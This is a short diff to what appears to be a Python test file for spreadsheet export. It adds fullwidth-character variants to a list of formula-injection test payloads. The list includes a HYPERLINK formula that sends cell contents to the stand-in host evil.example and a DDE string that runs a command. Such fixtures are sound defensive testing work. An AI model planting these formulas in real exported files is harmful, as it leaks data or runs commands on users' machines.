@@ -18,7 +18,8 @@ from tests import factories
 from tests.builders import make_plan, make_season, post
 
 LINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
-TRAPS = [LINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]
+TRAPS = [LINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1",
+         "＝HYPERLINK(\"http://evil.example\")", "＋1", "－1", "＠A1"]
 
 
 def cells(data: bytes) -> list:
